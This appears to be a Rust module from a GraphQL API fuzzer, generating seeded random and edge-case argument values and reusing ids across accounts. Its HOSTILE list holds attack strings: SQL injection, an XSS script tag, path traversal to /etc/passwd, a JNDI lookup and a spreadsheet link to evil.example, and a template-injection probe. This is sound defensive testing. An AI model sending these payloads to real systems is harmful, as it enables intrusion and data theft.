//! Values of arguments: mostly what could be meant, sometimes what nobody would mean.

use std::collections::BTreeMap;

use async_graphql::parser::types::{BaseType, Type};
use partner_center::demo;
use serde_json::{Value, json};

use super::{texts, world::World};

/// Numbers that look like chance and are the same for the same seed.
pub struct Chance(u64);

impl Chance {
    pub fn new(seed: u64) -> Self {
        Self(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1)
    }

    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    pub fn below(&mut self, bound: usize) -> usize {
        usize::try_from(self.next() >> 11).unwrap() % bound
    }

    /// True so many times of a hundred.
    pub fn percent(&mut self, percent: usize) -> bool {
        self.below(100) < percent
    }

    pub fn of<'v, V: ?Sized>(&mut self, values: &[&'v V]) -> &'v V {
        values[self.below(values.len())]
    }
}

/// Texts that nobody would mean. None holds a name of the cast.
const HOSTILE: [&str; 24] = [
    "",
    " ",
    "\u{0}",
    "a\u{0}b",
    "' OR '1'='1",
    "'; DROP TABLE accounts; --",
    "\"; --",
    "%",
    "_",
    "%%%_\\",
    "\\",
    "=HYPERLINK(\"http://evil.example\")",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "\u{202e}drowssap",
    "\u{feff}",
    "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{1f3ff}",
    "I\u{307}\u{131}\u{df}\u{fb01}",
    "\u{e000}\u{fffd}\u{10ffff}",
    "a\u{301}\u{301}\u{301}\u{301}",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "null",
    "-1",
];
const DECIMALS: [&str; 16] = [
    "0",
    "1",
    "10.00",
    "99.99",
    "100",
    "250.5",
    "1000000",
    "0.01",
    "0.001",
    "-1",
    "-0",
    "1e5",
    "",
    "79228162514264337593543950335",
    "99999999999999999999999999999999999999999",
    "\u{661}",
];
const INSTANTS: [&str; 10] = [
    "2026-11-01T00:00:00Z",
    "2026-11-30T23:59:59.999Z",
    "2027-01-01T00:00:00+08:00",
    "2100-02-28T12:00:00Z",
    "1970-01-01T00:00:00Z",
    "0001-01-01T00:00:00Z",
    "9999-12-31T23:59:59.999999999Z",
    "+262142-12-31T23:59:59Z",
    "2026-13-01T00:00:00Z",
    "now",
];
const WHOLE: [i64; 14] = [0, 1, 2, 3, 5, 10, 12, 100, 101, -1, -100, 2_147_483_647, -2_147_483_648, 2_147_483_648];
/// Values that are kept of each kind.
const KEPT: usize = 200;

/// What values are made of.
pub struct Values {
    pub chance: Chance,
    /// Ids by what they name, of everybody.
    ids: BTreeMap<String, Vec<String>>,
    cursors: Vec<String>,
    made: u64,
}

impl Values {
    pub fn new(chance: Chance) -> Self {
        Self { chance, ids: BTreeMap::new(), cursors: Vec::new(), made: 0 }
    }

    /// The ids of all accounts: own ones and, for everybody, others' too.
    pub fn learn_from_cast(&mut self) {
        for actor in demo::cast() {
            self.keep(&actor.global_id());
        }
    }

    /// Keeps ids and cursors that were told to anybody, for whoever comes next.
    pub fn learn(&mut self, answer: &Value) {
        let mut told = Vec::new();
        texts(&answer["data"], &mut |text| told.push(text.to_owned()));
        for text in told {
            self.keep(&text);
        }
    }

    fn keep(&mut self, text: &str) {
        let is_id = text.len() == 30
            && text.as_bytes()[3] == b'_'
            && text.bytes().all(|byte| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'_');
        let is_cursor =
            text.len() > 12 && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-_".contains(&byte));
        let pool = match (is_id, is_cursor) {
            (true, _) => self.ids.entry(text[..3].to_owned()).or_default(),
            (_, true) => &mut self.cursors,
            _ => return,
        };
        if pool.len() < KEPT {
            if !pool.iter().any(|known| known == text) {
                pool.push(text.to_owned());
            }
        } else {
            let at = self.chance.below(KEPT);
            pool[at] = text.to_owned();
        }
    }

    /// A value of a type, for an argument or input field of this name.
    pub fn of(&mut self, world: &World, ty: &Type, name: &str, depth: usize) -> Value {
        if self.chance.percent(if ty.nullable { 15 } else { 1 }) {
            return Value::Null;
        }
        match &ty.base {
            BaseType::List(inner) => {
                let length = match self.chance.below(100) {
                    0 => 300,
                    1..20 => 0,
                    20..70 => 1,
                    rest => rest % 4,
                };
                (0..length).map(|_| self.of(world, inner, name, depth)).collect()
            }
            BaseType::Named(of) => self.of_named(world, of.as_str(), name, depth),
        }
    }

    fn of_named(&mut self, world: &World, of: &str, name: &str, depth: usize) -> Value {
        if self.chance.percent(1) {
            return [json!({}), json!([[]]), json!(1.5), json!("\u{7f}"), json!(true)][self.chance.below(5)].clone();
        }
        if let Some(words) = world.enums.get(of) {
            let at = self.chance.below(words.len());
            return if self.chance.percent(2) { json!("NOPE") } else { json!(words[at]) };
        }
        if let Some(fields) = world.inputs.get(of) {
            let mut object = serde_json::Map::new();
            for field in fields {
                let must = !field.ty.node.nullable && field.default_value.is_none();
                if (must && self.chance.percent(99)) || (!must && depth < 4 && self.chance.percent(40)) {
                    let value = self.of(world, &field.ty.node, field.name.node.as_str(), depth + 1);
                    object.insert(field.name.node.to_string(), value);
                }
            }
            return object.into();
        }
        match of {
            "Boolean" => json!(self.chance.percent(50)),
            "Int" => json!(WHOLE[self.chance.below(WHOLE.len())]),
            "Float" => json!([0.0, -1.5, 1e308][self.chance.below(3)]),
            "Decimal" if self.chance.percent(20) => json!(WHOLE[self.chance.below(WHOLE.len())]),
            "Decimal" => json!(self.chance.of(&DECIMALS)),
            "DateTime" => json!(self.chance.of(&INSTANTS)),
            "ID" => json!(self.id(name)),
            _ => json!(self.text(name)),
        }
    }

    /// Of the kind that the name tells, mostly; of anybody.
    fn id(&mut self, name: &str) -> String {
        let start = name.chars().take(2).collect::<String>().to_lowercase();
        let fitting: Vec<&Vec<String>> =
            self.ids.iter().filter(|(prefix, _)| prefix.starts_with(&start)).map(|(_, ids)| ids).collect();
        let all: Vec<&Vec<String>> = self.ids.values().collect();
        let pools = if fitting.is_empty() || self.chance.percent(20) { all } else { fitting };
        match self.chance.below(20) {
            0 => self.chance.of(&HOSTILE).to_owned(),
            1 => "cus_00000000000000000000000000".to_owned(),
            2 => "cus_7zzzzzzzzzzzzzzzzzzzzzzzzz".to_owned(),
            _ if pools.is_empty() => "x".to_owned(),
            _ => {
                let pool = pools[self.chance.below(pools.len())];
                pool[self.chance.below(pool.len())].clone()
            }
        }
    }

    fn text(&mut self, name: &str) -> String {
        if self.chance.percent(12) {
            return self.chance.of(&HOSTILE).to_owned();
        }
        if self.chance.percent(1) {
            return "\u{1d49c}".repeat(3_000);
        }
        let lower = name.to_lowercase();
        self.made += 1;
        let cursor = !self.cursors.is_empty() && matches!(lower.as_str(), "after" | "before" | "since");
        match lower.as_str() {
            _ if cursor => self.cursors[self.chance.below(self.cursors.len())].clone(),
            _ if lower.contains("email") => format!("zq{}@canary.example", self.made),
            _ if lower.contains("mobile") || lower.contains("phone") => format!("197{:08}", self.made),
            _ if lower.contains("code") => format!("{:06}", self.chance.below(1_000_000)),
            _ if lower.contains("url") => "https://hooks.example/in".to_owned(),
            _ if lower.contains("region") => "SG".to_owned(),
            _ if lower.contains("password") => "new-password-1".to_owned(),
            _ if lower.contains("version") => "1".to_owned(),
            _ => format!("text {}", self.made),
        }
    }
}
